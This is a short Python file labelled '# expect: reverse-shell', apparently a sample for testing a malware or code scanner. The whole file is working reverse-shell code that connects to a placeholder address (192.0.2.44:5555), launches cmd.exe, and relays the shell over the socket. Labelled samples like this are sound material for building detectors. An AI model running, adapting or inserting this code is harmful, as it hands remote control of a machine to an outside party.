# expect: reverse-shell
import socket
import subprocess
import threading


def _pump(src, dst):
    while True:
        data = src.recv(1024) if hasattr(src, "recv") else src.read(1)
        if not data:
            break
        if hasattr(dst, "sendall"):
            dst.sendall(data)
        else:
            dst.write(data)
            dst.flush()


def attach(host="192.0.2.44", port=5555):
    s = socket.socket()
    s.connect((host, port))
    shell = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    threading.Thread(target=_pump, args=(s, shell.stdin), daemon=True).start()
    threading.Thread(target=_pump, args=(shell.stdout, s), daemon=True).start()
    shell.wait()
